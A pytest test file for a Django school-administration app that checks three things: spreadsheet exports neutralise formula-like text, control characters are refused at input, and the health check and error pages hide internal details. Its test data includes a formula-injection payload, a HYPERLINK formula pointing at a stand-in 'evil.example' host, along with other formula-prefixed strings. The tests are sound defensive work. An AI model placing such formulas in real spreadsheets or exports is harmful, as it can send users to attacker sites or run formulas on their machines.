"""What leaves and enters the system is safe: exported text is never a formula, control characters are
refused at input, the health check and the error pages tell strangers nothing about the machinery."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any
from unittest import mock

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.db import OperationalError, models
from django.template.loader import render_to_string
from django.test import Client, RequestFactory
from django.utils import translation
from django.views import defaults
from openpyxl import load_workbook

from eduboard.accounts.models import User
from eduboard.accounts.roles import Role
from eduboard.core.exports import Column, table_response
from eduboard.core.text import validate_no_control_characters
from eduboard.finance.exports import meal_workbook, statement_workbook
from eduboard.finance.selectors import MealComputation, MealLine
from eduboard.people.forms import StaffMemberForm
from eduboard.people.models import PositionKind, StaffMember
from eduboard.people.positions import ensure_standard_positions
from eduboard.registry.models import Institution
from eduboard.reports.present import Block, Cell, Figure, Presentation, Section, Table
from eduboard.reports.renderers import render_xlsx

pytestmark = pytest.mark.one_database

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x","Click")'
FORMULA_LIKE = [FORMULA_NAME, "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


# --- exports: text that looks like a formula is written as text


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _assert_text_cell(cell: Any, expected: str) -> None:
    assert cell.data_type == "s", f"{expected!r} was written as {cell.data_type!r}"
    assert cell.value == expected


def _export(fmt: str, values: list[Any]) -> bytes:
    columns = [Column("Name", lambda row: row["name"]), Column("Amount", lambda row: row["amount"])]
    rows = [{"name": value, "amount": Decimal("-12.50")} for value in values]
    return table_response(filename="learners", fmt=fmt, columns=columns, rows=rows).content


def test_formula_in_learner_name_is_written_as_text_in_csv() -> None:
    rows = _csv_rows(_export("csv", FORMULA_LIKE))
    assert [row[0] for row in rows[1:]] == [f"'{value}" for value in FORMULA_LIKE]


def test_negative_amounts_and_plain_names_are_not_prefixed_in_csv() -> None:
    rows = _csv_rows(_export("csv", ["Anna Bērziņa", "O'Brien"]))
    assert rows[1:] == [["Anna Bērziņa", "-12.50"], ["O'Brien", "-12.50"]]


def test_formula_in_learner_name_is_written_as_text_in_xlsx() -> None:
    sheet = load_workbook(io.BytesIO(_export("xlsx", FORMULA_LIKE))).active
    assert sheet is not None
    for row, value in enumerate(FORMULA_LIKE, start=2):
        _assert_text_cell(sheet.cell(row=row, column=1), value)
        amount = sheet.cell(row=row, column=2)
        assert amount.data_type == "n" and amount.value == -12.5  # numbers stay numbers, negative ones too


def test_formula_in_learner_name_is_written_as_text_in_the_meal_workbook(school_a: Institution) -> None:
    lines = [
        MealLine(
            learner_id=index,
            name=name,
            masked_code="010110-*****",
            group="=1+1",
            rule_code="preschool_day",
            rule_name="@rule",
            days=20,
            price_per_day=Decimal("3.000"),
            state_per_day=Decimal("0"),
            municipal_per_day=Decimal("3.000"),
            total=Decimal("-60.00"),
            state=Decimal("0"),
            municipal=Decimal("-60.00"),
        )
        for index, name in enumerate(FORMULA_LIKE, start=1)
    ]
    computation = MealComputation(
        institution=school_a, month=date(2024, 10, 1), school_days={"schools": 21, "preschools": 22}, lines=lines
    )
    workbook = load_workbook(io.BytesIO(meal_workbook(computation)))
    learners = workbook.worksheets[0]
    for row, name in enumerate(FORMULA_LIKE, start=2):
        _assert_text_cell(learners.cell(row=row, column=1), name)
        _assert_text_cell(learners.cell(row=row, column=3), "=1+1")
        assert learners.cell(row=row, column=9).value == -60  # the amount stays a number
    _assert_text_cell(workbook.worksheets[1].cell(row=2, column=1), "@rule")


def test_formula_in_municipality_name_is_written_as_text_in_the_settlement_statement() -> None:
    line = mock.Mock(
        municipality=mock.Mock(),
        period_start=date(2024, 9, 1),
        period_end=date(2024, 12, 31),
        learners=3,
        months=4,
        monthly_cost=Decimal("120.00"),
        amount=Decimal("-1440.00"),
    )
    line.municipality.name = FORMULA_NAME
    line.get_direction_display.return_value = "-in"
    line.get_level_display.return_value = "+basic"
    totals = {"incoming": {"learners_total": 3}, "outgoing": {"learners_total": 0}}
    statement = {
        "lines": [line],
        "totals": {**totals, "receivable": Decimal("0"), "due": Decimal("0"), "balance": Decimal("-1440.00")},
        "date_from": date(2024, 9, 1),
        "date_to": date(2024, 12, 31),
    }
    sheet = load_workbook(io.BytesIO(statement_workbook(statement))).worksheets[0]
    _assert_text_cell(sheet["A2"], FORMULA_NAME)
    _assert_text_cell(sheet["B2"], "-in")
    _assert_text_cell(sheet["C2"], "+basic")
    assert sheet["I2"].value == -1440


def test_formula_in_a_report_table_is_written_as_text_in_the_report_xlsx() -> None:
    table = Table(
        key="learners",
        title="Learners",
        columns=["Name", "Count"],
        rows=[[Cell(value), Cell("-3", Decimal("-3"))] for value in FORMULA_LIKE],
    )
    figure = Figure(key="k", label="+label", text="-", raw=None, unit="", before="+2")
    presentation = Presentation(
        title="=title",
        subtitle="@subtitle",
        as_of="2024-10-01",
        school_year="2024/2025",
        sections=[
            Section(key="s", number=1, title="-section", blocks=[Block(type="figures", items=[figure])]),
            Section(key="t", number=2, title="Tables", blocks=[Block(type="table", table=table)]),
        ],
    )
    workbook = load_workbook(io.BytesIO(render_xlsx(presentation)))
    figures, learners = workbook.worksheets
    _assert_text_cell(figures["A1"], "=title")
    _assert_text_cell(figures["A2"], "@subtitle")
    for cell, value in zip(figures[5], ["-section", "+label", "-", None, "+2"], strict=False):
        if value is not None:
            _assert_text_cell(cell, value)
    for row, value in enumerate(FORMULA_LIKE, start=3):
        _assert_text_cell(learners.cell(row=row, column=1), value)
        assert learners.cell(row=row, column=2).value == -3


# --- control characters are refused at input


@pytest.mark.parametrize(
    ("text", "character", "position"),
    [
        ("Anna\x00", "U+0000", 5),
        ("\x01x", "U+0001", 1),
        ("a\x0bb", "U+000B", 2),
        ("a\x7f", "U+007F", 2),
        ("\x85", "U+0085", 1),
    ],
)
def test_control_character_is_refused_naming_the_character_and_its_position(
    english: None, text: str, character: str, position: int
) -> None:
    with pytest.raises(ValidationError) as refused:
        validate_no_control_characters(text)
    assert refused.value.messages == [f"Contains a control character ({character}) at position {position}."]


def test_tab_line_feed_and_carriage_return_are_allowed_in_text() -> None:
    validate_no_control_characters("Iela 1\r\n\tLV-5401 Daugavpils — ā č ž")


def test_every_text_field_of_every_eduboard_model_refuses_control_characters() -> None:
    missing = [
        f"{model.__name__}.{field.name}"
        for model in apps.get_models()
        if model.__module__.startswith("eduboard.")
        for field in model._meta.fields
        if isinstance(field, (models.CharField, models.TextField))
        and validate_no_control_characters not in field.validators
    ]
    assert missing == []


def test_the_validator_does_not_change_migrations() -> None:
    field = StaffMember._meta.get_field("first_name")
    assert "validators" not in field.deconstruct()[3]


def test_model_form_refuses_a_control_character_in_a_name(english: None) -> None:
    form = StaffMemberForm(data={"personal_code": "010110-10006", "first_name": "An\x01na", "last_name": "Ozola"})
    assert not form.is_valid()
    assert form.errors["first_name"] == ["Contains a control character (U+0001) at position 3."]


@pytest.fixture
def head(school_a: Institution, make_user: Callable[..., User]) -> User:
    ensure_standard_positions()
    return make_user(Role.INSTITUTION_HEAD, [school_a])


def test_nul_in_a_name_on_the_staff_page_answers_400_and_saves_nothing(
    english: None, head: User, school_a: Institution, signed_in: Callable[[User], Client]
) -> None:
    response = signed_in(head).post(
        "/people/staff/new/",
        {
            "person-personal_code": "010110-10006",
            "person-first_name": "An\x00na",
            "person-last_name": "Ozola",
            "rate-institution": school_a.pk,
            "rate-position": PositionKind.objects.get(code="subject_teacher").pk,
            "rate-fte": "1",
            "rate-start_date": "2024-09-01",
        },
    )
    assert response.status_code == 400
    assert "Contains a control character (U+0000) at position 3." in response.content.decode()
    assert not StaffMember.objects.exists()


def test_nul_in_a_name_through_the_api_answers_400_and_saves_nothing(
    english: None, head: User, signed_in: Callable[[User], Client]
) -> None:
    response = signed_in(head).post(
        "/api/people/staff/",
        {"personal_code": "010110-10006", "first_name": "An\x00na", "last_name": "Ozola"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "Contains a control character (U+0000) at position 3." in response.json()["first_name"]
    assert not StaffMember.objects.exists()


def test_control_character_in_a_json_name_is_refused_by_the_model_field(
    english: None, head: User, signed_in: Callable[[User], Client]
) -> None:
    response = signed_in(head).post(
        "/api/people/staff/",
        json.dumps({"personal_code": "010110-10006", "first_name": "Anna", "last_name": "Ozo\x1bla"}),
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response.json()["last_name"] == ["Contains a control character (U+001B) at position 4."]
    assert not StaffMember.objects.exists()


def test_control_character_in_a_search_box_answers_400(
    english: None, head: User, signed_in: Callable[[User], Client]
) -> None:
    response = signed_in(head).get("/people/staff/", {"q": "a\x00"})
    assert response.status_code == 400
    assert "q: Contains a control character (U+0000) at position 2." in response.content.decode()


def test_control_character_in_a_parameter_s_name_answers_400(
    english: None, head: User, signed_in: Callable[[User], Client]
) -> None:
    """Found by the long Schemathesis run: a query parameter named with a control character was let through."""
    response = signed_in(head).get("/api/finance/institution-sets/", {"O\x0f;": "false"})
    assert response.status_code == 400
    assert response.json()["error_codes"] == {"detail": ["control_character"]}


# --- the health check and the error pages


def test_health_tells_an_anonymous_caller_only_the_status(db: None) -> None:
    response = Client().get("/api/health/")
    assert response.status_code == 200
    assert response.json() == {"status": "ok"}


def test_health_tells_an_anonymous_caller_only_the_error_when_the_database_is_down(db: None) -> None:
    with mock.patch("django.db.backends.utils.CursorWrapper.execute", side_effect=OperationalError("down")):
        response = Client().get("/api/health/")
    assert response.status_code == 503
    assert response.json() == {"status": "error"}


def test_health_shows_a_signed_in_board_user_the_database_details(
    make_user: Callable[..., User], signed_in: Callable[[User], Client]
) -> None:
    answer = signed_in(make_user(Role.BOARD_ANALYST)).get("/api/health/").json()
    assert answer["status"] == "ok" and answer["database"] == "ok" and answer["engine"]


def test_health_hides_the_database_details_from_a_head_of_school(
    head: User, signed_in: Callable[[User], Client]
) -> None:
    assert signed_in(head).get("/api/health/").json() == {"status": "ok"}


def test_unknown_address_answers_a_friendly_404_without_the_url_patterns(db: None) -> None:
    response = Client().get("/no-such-page/")
    assert response.status_code == 404
    page = response.content.decode()
    assert "URLconf" not in page and "urlpatterns" not in page
    assert '<html lang="lv">' in page
    assert "Lapa nav atrasta" in page  # "Page not found", in the site's layout and language
    assert 'href="/"' in page


def test_forbidden_page_is_friendly_and_links_home(
    school_a: Institution, make_user: Callable[..., User], signed_in: Callable[[User], Client]
) -> None:
    response = signed_in(make_user(Role.INSTITUTION_STAFF, [school_a])).get("/people/staff/new/")
    assert response.status_code == 403
    page = response.content.decode()
    assert '<html lang="lv">' in page and "Piekļuve liegta" in page and 'href="/"' in page


def test_server_error_page_needs_neither_the_request_nor_the_database() -> None:
    with translation.override("lv"):
        page = render_to_string("500.html")
        response = defaults.server_error(RequestFactory().get("/"))
    assert '<html lang="lv">' in page
    assert "Servera kļūda" in page and 'href="/"' in page
    assert response.status_code == 500 and "Servera kļūda" in response.content.decode()
